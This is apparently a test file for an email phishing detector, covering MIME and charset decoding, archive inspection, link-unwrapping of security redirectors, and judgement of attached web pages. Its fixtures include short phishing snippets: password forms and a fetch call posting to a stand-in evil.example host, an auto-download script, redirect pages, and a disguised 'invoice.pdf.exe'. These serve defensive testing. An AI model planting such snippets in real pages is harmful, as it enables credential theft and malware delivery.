import { deflateRawSync, gzipSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { judgeReadMail } from '../../../judge/judge.ts'
import { shippedModel } from '../../../judge/model/shipped.ts'
import { openedTarget } from '../../../judge/read/opened-target.ts'
import { plainForm } from '../../../judge/read/plain-form.ts'
import { readMail } from '../../../judge/read/read-mail.ts'
import { oneForm } from '../../../judge/read/unicode-host.ts'
import { codesOf, judge, makeMail } from '../../support/judge/mails.ts'
import { createSlowness } from '../../support/long-text/stalls.ts'

const bytes = (text: string) => Buffer.from(text.replace(/\r?\n/g, '\r\n'), 'latin1')

test.each([
  ['windows-1256', 'quoted-printable', '=E3=D1=CD=C8=C7', 'مرحبا'],
  ['utf-8', 'base64', Buffer.from('مرحبا').toString('base64'), 'مرحبا'],
  ['iso-8859-1', '8bit', 'caf\u00e9', 'café'],
])('a text in %s as %s is read', async (charset, encoding, coded, text) => {
  const raw = `From: a@b.example\nContent-Type: text/plain; charset=${charset}\nContent-Transfer-Encoding: ${encoding}\n\n${coded}\n`
  expect((await readMail(bytes(raw))).text).toBe(text)
})

test('what a reader sees of a page is read apart from what is hidden', async () => {
  const hidden = 'recipe of the garden '.repeat(30)
  const body = `<html><head><style>p{color:red}</style></head><body><p>Sign in&nbsp;now</p><div style="display:none">${hidden}</div><a href="https://x.example/a">go <b>there</b></a></body></html>`
  const { text, html, links } = await readMail(makeMail({ type: 'text/html', body }))
  expect(text).toBe('Sign in now\ngo there')
  expect(html?.hiddenLetters).toBeGreaterThan(500)
  expect(links).toEqual([{ target: 'https://x.example/a', text: 'go there' }])
})

test('names in an archive are read, and nothing is unpacked', async () => {
  const head = Buffer.from([
    80, 75, 3, 4, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 255, 255, 255, 255, 255, 255, 255, 255,
    8, 0, 0, 0,
  ])
  const zip = Buffer.concat([head, Buffer.from('bill.exe')]).toString('base64')
  const body = `--b\nContent-Type: text/plain\n\nThe invoice.\n--b\nContent-Type: application/zip; name=bill.zip\nContent-Transfer-Encoding: base64\n\n${zip}\n--b--`
  const mail = makeMail({ type: 'multipart/mixed; boundary=b', body })
  expect((await readMail(mail)).attachments[0]?.entries).toEqual(['bill.exe'])
  expect(codesOf(await judge(mail))).toContain('dangerous_attachment')
})

describe('bytes that are no mail', () => {
  test.each([
    ['nothing', ''],
    ['zeros', '\0'.repeat(5000)],
    ['no header lines', 'just a text'],
    ['a part without an end', 'Content-Type: multipart/mixed; boundary=b\n\n--b\n\nx'],
    ['a boundary of nothing', 'Content-Type: multipart/mixed; boundary=""\n\n--\n--\n----'],
    ['wrong base64', 'Content-Type: text/html\nContent-Transfer-Encoding: base64\n\n===a*b=c'],
    ['an unknown charset', 'Content-Type: text/plain; charset=martian\n\nhello'],
  ])('get an answer: %s', async (_, text) => {
    const { level, score } = await judge(bytes(text))
    expect(['safe', 'suspicious']).toContain(level)
    expect(score).toBeGreaterThanOrEqual(0)
    expect(score).toBeLessThanOrEqual(1)
  })

  test('are named as such', async () => {
    expect((await judge(bytes(''))).unread).toEqual(['no_headers', 'no_text', 'authentication'])
  })
})

test('a file costs nothing to pass over, and a long text is read from both ends', async () => {
  const part = `--b\nContent-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: base64\n\n${`${'QUJD'.repeat(19)}\n`.repeat(20_000)}`
  const long = `Confirm your password ${'x '.repeat(100_000)}`
  const body = `--b\nContent-Type: text/plain\n\nThe report is attached.\n${part}--b\n\n${long}the end\n--b--`
  const read = await readMail(makeMail({ type: 'multipart/mixed; boundary=b', body }))
  expect(read.text).toMatch(/^The report is attached\.\nConfirm your password x.*the end$/s)
  expect(read.unread).toEqual(['too_large'])
})

test('a mail of many lines is read in steps, between which the caller may pause', async () => {
  const body = `--b\n\n${'--\n'.repeat(50_000)}`
  const mail = makeMail({ type: 'multipart/mixed; boundary=b', body })
  let pauses = 0
  await readMail(mail, async () => {
    pauses += 1
  })
  expect(pauses).toBeGreaterThan(15)
})

const head = 'From: Lena Weber <lena@supplier.example>\nTo: a@b.example\nSubject: Hello\n'

/** A file in an archive, as it is or packed. */
function zip(name: string, content: Uint8Array, isPacked = false): Buffer {
  const stored = isPacked ? deflateRawSync(content) : content
  const local = Buffer.alloc(30)
  local.write('PK\x03\x04', 'latin1')
  local.writeUInt16LE(isPacked ? 8 : 0, 8)
  local.writeUInt32LE(stored.length, 18)
  local.writeUInt16LE(name.length, 26)
  return Buffer.concat([local, Buffer.from(name), stored])
}

function tar(name: string): Buffer {
  const header = Buffer.alloc(512)
  header.write(name)
  header.write('00000000002\0', 124)
  header.write('ustar', 257)
  return Buffer.concat([header, Buffer.alloc(1024)])
}

const program = zip('invoice.pdf.exe', Buffer.from('MZ'))

test.each<[string, Uint8Array]>([
  ['in an archive that is stored', zip('inner.zip', program)],
  ['in an archive that is packed', zip('inner.zip', program, true)],
  [
    'of tar',
    Buffer.concat([tar('readme.txt'), tar('invoice.pdf.exe')].map((it) => it.subarray(0, 1024))),
  ],
  ['of tar, packed', gzipSync(tar('invoice.pdf.exe'))],
  ['of tar in another one', zip('inner.tar', tar('invoice.pdf.exe'), true)],
])('a program is found in an archive %s', async (_, bytes) => {
  const mail = `${head}Content-Type: application/zip; name=a.zip\nContent-Transfer-Encoding: base64\n\n${bytes.toBase64()}`
  const { attachments } = await readMail(Buffer.from(mail))
  expect(attachments[0]?.entries).toContain('invoice.pdf.exe')
})

const arabic = 'صباح الخير، أرجو تأكيد كلمة المرور'
const page1256 = new TextDecoder('windows-1256').decode(
  Uint8Array.from({ length: 256 }, (_, at) => at),
)
const in1256 = Buffer.from([...arabic].map((it) => page1256.indexOf(it)))

test.each([
  ['no name', 'text/plain', in1256],
  ['a wrong name', 'text/plain; charset=utf-8', in1256],
  [
    'no name among much markup',
    'text/html',
    Buffer.concat([Buffer.from(`<p style="${'a:b;'.repeat(99)}">`), in1256]),
  ],
  [
    'the name in the page',
    'text/html',
    Buffer.concat([Buffer.from('<meta charset="windows-1256">'), in1256]),
  ],
  ['the name of Windows-1256 for UTF-8', 'text/plain; charset=windows-1256', Buffer.from(arabic)],
  ['the name of Latin for UTF-8', 'text/plain; charset=iso-8859-1', Buffer.from(arabic)],
])('Arabic is read with %s', async (_, type, body) => {
  const mail = Buffer.concat([Buffer.from(`${head}Content-Type: ${type}\n\n`), body])
  expect((await readMail(mail)).text).toBe(arabic)
})

const target = 'https://www.evil.example/x?a=b'
const inside = encodeURIComponent(target)

test.each([
  `https://eur02.safelinks.protection.outlook.com/?url=${inside}&data=1`,
  `https://gcc02.safelinks.protection.outlook.us/?data=1&amp;url=${inside}`,
  `https://urldefense.proofpoint.com/v1/url?u=${inside}&k=1`,
  'https://urldefense.proofpoint.com/v2/url?u=https-3A__www.evil.example_x-3Fa-3Db&d=x',
  `https://urldefense.us/v3/__https:/www.evil.example/x?a=b__;!!x`,
  `https://linkprotect.cudasvc.com/url?a=${inside}&c=1`,
  `https://imsva91-ctp.trendmicro.com/wis/clicktime/v1/query?url=${inside}`,
  `https://protect2.fireeye.com/v1/url?k=1&u=${inside}`,
  `https://protect.checkpoint.com/v2/___${target}___.x`,
  `https://secure-web.cisco.com/1abc/${inside}`,
  `https://www.google.com/url?q=${inside}&sa=D`,
  `https://maps.google.com.jo//url?q=${inside}`,
  `https://www.google.com/pagead/aclk?adurl=${inside}`,
  'https://www.google.com/amp/s/www.evil.example/x?a=b',
  `https://googleads.g.doubleclick.net/pcs/click?adurl=${inside}`,
  `https://www.youtube.com/redirect?q=${inside}`,
  `https://www.linkedin.com/redir/redirect?url=${inside}`,
  `https://l.facebook.com/l.php?u=${inside}`,
  `https://www.bing.com/ck/a?u=a1${Buffer.from(target).toString('base64url')}`,
  `https://r.search.yahoo.com/_ylt=1/RV=2/RU=${inside}/RK=2`,
  `https://duckduckgo.com/l/?uddg=${inside}`,
  `https://urldefense.com/v3/__https://eur02.safelinks.protection.outlook.com/?url=${inside}__;!!x`,
])('a link leads where its service leads on to: %s', (link) => {
  expect(openedTarget(link)).toBe(target)
})

test.each([
  ['xn--mnchen-3ya.example', 'münchen.example'],
  ['MÜNCHEN.example', 'münchen.example'],
  ['xn--4gbrim.xn--ngbc5azd', 'موقع.شبكة'],
  ['xn--80ak6aa92e.com', 'аррӏе.com'],
  ['xn--a.example', 'xn--a.example'],
  ['clinic.example', 'clinic.example'],
])('a domain has one form: %s', async (written, form) => {
  expect(oneForm(written)).toBe(form)
  const { from, links } = await readMail(Buffer.from(`From: a@${written}\n\nhttps://${written}/x`))
  expect([from.address, links[0]?.target]).toEqual([`a@${form}`, `https://${form}/x`])
})

test('what a letter turns is read as it is drawn', async () => {
  const { subject, text } = await readMail(
    Buffer.from(
      'Subject: \u202edrowssap\u202c\nContent-Type: text/plain\n\n\u202ewon ti mrifnoC\u202c',
    ),
  )
  // A reader is shown the letter that turned a subject.
  expect(subject).toBe('\u202edrowssap\u202c')
  expect([subject, text].map(plainForm)).toEqual(['password', 'confirm it now'])
})

test.each([
  ['text/calendar', 'X-ALT-DESC;FMTTYPE=text/html'],
  ['text/calendar', 'DESCRIPTION;ALTREP="cid:a"'],
  ['application/octet-stream; name=invite.ics', 'DESCRIPTION'],
])('an invitation has the links of its page: %s, %s', async (type, field) => {
  const page = '<p>Open <a href="https://evil.example/x">www.bank.example</a></p>'
  const body = `BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:Review\n${field}:${page}\nEND:VEVENT\nEND:VCALENDAR`
  const { text, links } = await readMail(makeMail({ type, body }))
  expect(text).toBe('Review\nOpen www.bank.example')
  expect(links).toEqual([{ target: 'https://evil.example/x', text: 'www.bank.example' }])
})

test('several senders mark a mail, and the same one twice does not', async () => {
  const mail = (other: string) =>
    judge(Buffer.from(`From: ${other}\n${head}\nhere are the minutes of our meeting on Tuesday.`))
  const marked = await mail('Arab Bank <a@arabbank.com>')
  expect(marked.level).toBe('suspicious')
  expect(codesOf(marked)[0]).toBe('several_senders')
  expect((await mail('Lena Weber <lena@supplier.example>')).level).toBe('safe')
})

const letters = [
  'Hello Hala, thank you for the call on Tuesday. Please find the document attached as agreed, and let me know whether the figures suit you. Kind regards, Nader',
  'مرحبا هالة، أرفقت لك المستند كما اتفقنا يوم الثلاثاء. أرجو إبلاغي إن كانت الأرقام مناسبة. مع التحية، نادر',
]

function mailWith(letter: string, page: Uint8Array, name: string, type: string): Uint8Array {
  const head =
    'From: Nader Khoury <nader@cedar-print.example>\nTo: hala@olivebranch.example\nSubject: The document\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b'
  const file = `Content-Type: ${type}; name="${name}"\nContent-Disposition: attachment; filename="${name}"\nContent-Transfer-Encoding: base64\n\n${Buffer.from(page).toString('base64')}`
  return Buffer.from(
    `${head}\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n${letter}\n--b\n${file}\n--b--\n`,
  )
}

const report =
  '<html><body><h1>Energy use in October</h1><table><tr><td>Building A</td><td>1,204</td></tr></table></body></html>'
const traps = {
  attached_page_asks: [
    '<form action="https://evil.example/p"><input type=password></form>',
    '<form action="https://evil.example/p"><input name=pin></form>',
    '<script>box.innerHTML = "<input type=pass" + "word>"; fetch("https://evil.example/p")</script>',
  ],
  attached_page_unpacks: [
    '<script>var l=document.createElement("a");l.href=URL.createObjectURL(new Blob([atob("UEsDBBQ")]));l.download="a.zip";l.click()</script>',
    '<script>document.write(unescape("%3Cform%3E"))</script>',
  ],
  attached_page_leads_on: [
    '<meta http-equiv="refresh" content="0;url=https://evil.example/login">',
    '<script>window.location.href = "https://evil.example"</script>',
    '<body onload="location.replace(\'https://evil.example\')">',
    '<iframe src="https://evil.example/login"></iframe>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location="https://evil.example"]]></script></svg>',
  ],
}
const files = [
  ['document.html', 'text/html'],
  ['document.xht', 'application/octet-stream'],
  ['document.svg', 'image/svg+xml'],
  ['document.pdf', 'application/pdf'],
  ['document', 'application/octet-stream'],
] as const

describe.each(files)('a web page that is attached as %s, %s', (name, type) => {
  test('is judged by what it does', async () => {
    for (const letter of letters) {
      for (const [code, pages] of Object.entries(traps)) {
        for (const page of pages) {
          const whole = `<html><head><title>x</title></head>${page}</html>`
          const source = page.startsWith('<svg') ? page : whole
          for (const bytes of [Buffer.from(source), Buffer.from(`\ufeff${source}`, 'utf16le')]) {
            const judgement = await judge(mailWith(letter, bytes, name, type))
            expect(judgement.level, page).toBe('suspicious')
            expect(codesOf(judgement)[0], page).toBe(code)
          }
        }
      }
      expect(await judge(mailWith(letter, Buffer.from(report), name, type))).toMatchObject({
        level: 'safe',
      })
    }
  })
})

const mostBytes = 24_000_000
const fill = (unit: string, bytes = 5_000_000) => unit.repeat(bytes / unit.length)
const file = (content: string) => `Content-Type: application/octet-stream; name=a.rar\n\n${content}`
const ofType = (type: string, body: string, encoding = '8bit') =>
  `Content-Type: ${type}\nContent-Transfer-Encoding: ${encoding}\n\n${body}`

/** Each is longer than the judge reads of such mail, and slow in a way of its own. */
const mails: Readonly<Record<string, () => string>> = {
  'folded lines': () => `X-Y: a\n${fill(' a\n', mostBytes)}\n\nHello`,
  'lines of dashes': () => ofType('multipart/mixed; boundary=b', fill('-\n', mostBytes)),
  uuencode: () => ofType('text/plain', fill('#AAAA\n'), 'x-uuencode'),
  'quoted-printable': () => ofType('text/html', fill('=3Cp=3E=41=42'), 'quoted-printable'),
  base64: () => ofType('text/html', fill('PHA+QUJDPC9wPjxwPkFC\n'), 'base64'),
  'UTF-7': () => ofType('text/plain; charset=utf-7', fill('+AGE-')),
  'an invitation': () => ofType('text/calendar', fill('DESCRIPTION:at https://a.example/x\\n\n')),
  'a page of spaces': () => ofType('text/html', fill(' \n')),
  'links to 10,000 sites': () =>
    ofType(
      'text/html',
      Array.from({ length: 10_000 }, (_, at) => `<a href="https://e${at}.example/">x</a>`).join(''),
    ),
  'a file of one word': () => file(`Rar!${fill('a')}`),
  'a file of comments': () => file(fill('<!---->', 24_000)),
}

const ownMs = () => {
  const { user, system } = process.threadCpuUsage()
  return (user + system) / 1000
}

/** How long the judge goes on without a pause, in time of the processor. */
async function longestStepMs(mail: Uint8Array): Promise<number> {
  let longest = 0
  let last = ownMs()
  const pause = async () => {
    longest = Math.max(longest, ownMs() - last)
    last = ownMs()
  }
  await judgeReadMail(await readMail(mail, pause), {}, { model: shippedModel, pause })
  await pause()
  return longest
}

test.each(Object.keys(mails))('a page goes on answering while it reads %s', async (name) => {
  const slowness = createSlowness()
  const mail = Buffer.from(`From: a@evil.example\nSubject: x\n${mails[name]?.()}`, 'latin1')
  let least = await longestStepMs(mail)
  // A first run also compiles, and a busy machine takes one that has nothing to do with the mail.
  for (let more = 0; more < 2 && least > 50 * slowness(); more += 1) {
    least = Math.min(least, await longestStepMs(mail))
  }
  expect(least).toBeLessThan(50 * slowness())
})
